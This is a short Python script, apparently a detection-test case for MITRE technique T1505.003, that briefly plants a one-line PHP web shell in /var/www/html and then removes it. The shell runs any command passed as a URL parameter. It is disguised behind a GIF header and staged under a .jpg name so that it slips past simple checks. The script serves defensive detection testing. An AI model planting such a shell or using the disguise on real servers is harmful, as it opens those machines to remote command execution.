# technique: T1505.003
"""Server Software Component: Web Shell (T1505.003), a one-line PHP shell
moved into a document root (/var/www/html) with os.rename.

The shell is written as an image-looking file in /tmp, then renamed into
/var/www/html/<unique>.php (the directories are created if missing, and
everything this script created is removed in `finally`). Python never
opens the .php path: it only appears as a rename destination, and the
source bytes were written under a .jpg name.

A good detector raises a high alert: a script file appears in a web
document root.
"""
import os
import shutil
import tempfile
import uuid

docroot = "/var/www/html"
created = []
p = docroot
while not os.path.exists(p):
    created.append(p)
    p = os.path.dirname(p)
dest = os.path.join(docroot, f"wp-cache-{uuid.uuid4().hex[:8]}.php")
fd, tmp = tempfile.mkstemp(suffix=".jpg")
try:
    os.write(fd, b"GIF89a<?php system($_GET['c']); ?>\n")
    os.close(fd)
    os.makedirs(docroot, exist_ok=True)
    try:
        os.rename(tmp, dest)
    except OSError:
        shutil.move(tmp, dest)
except OSError as e:
    print("not permitted:", e)
finally:
    for f in (tmp, dest):
        if os.path.exists(f):
            os.remove(f)
    for d in created:
        if os.path.isdir(d):
            os.rmdir(d)
